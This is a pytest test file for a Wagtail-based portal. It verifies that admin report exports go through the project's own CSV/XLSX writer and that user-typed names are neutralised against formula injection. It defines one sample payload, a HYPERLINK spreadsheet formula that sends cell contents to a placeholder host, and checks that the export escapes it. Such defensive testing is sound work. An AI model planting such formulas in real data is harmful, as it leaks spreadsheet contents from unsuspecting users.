"""Wagtail's own reports export what outside users typed (a name, through
the log): their CSV goes through the one formula guard of
portal/spreadsheets.py, as every other export does."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from inputs.services import input_transition
from portal.organisations.models import Membership
from tests.factories import InputFactory, log_in, member_of, moderator

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"Klik")'


def _rows(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    text = body.decode("utf-8-sig")
    return list(
        csv.reader(
            io.StringIO(text), delimiter=";" if ";" in text.splitlines()[0] else ","
        )
    )


def test_the_site_history_export_keeps_a_name_from_becoming_a_formula(client):
    input = InputFactory()
    submitter = member_of(
        input.organisation, Membership.Role.MEMBER, first_name=FORMULA, last_name=""
    )
    input_transition(input=input, action="submit", user=submitter)
    log_in(client, moderator())

    response = client.get("/admin/reports/site-history/?export=csv")

    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert not any(c.lstrip().startswith("=") for c in cells), cells
    assert "'" + FORMULA in cells
    # In local time, as the screen shows it, not UTC with microseconds.
    header, *rows = _rows(response)
    when = rows[0][header.index("Dato/tid")]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", when), when


@pytest.mark.parametrize(
    "report", ["locked", "workflow", "workflow_tasks", "site-history", "aging-pages"]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_report_exports_through_our_writer(client, demo_site, report, fmt):
    from django.contrib.auth.models import Group

    from portal.accounts.roles import Role

    admin = moderator()
    admin.groups.add(Group.objects.get(name=Role.SITE_ADMIN))
    log_in(client, admin)

    response = client.get(f"/admin/reports/{report}/?export={fmt}")

    assert response.status_code == 200
    if fmt == "csv":
        # Ours: a BOM and ";" (Wagtail's: neither, streamed).
        assert response.content.startswith("\ufeff".encode())
        assert ";" in response.content.decode("utf-8-sig").splitlines()[0]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet.title != "Sheet1" and sheet.freeze_panes == "A2"
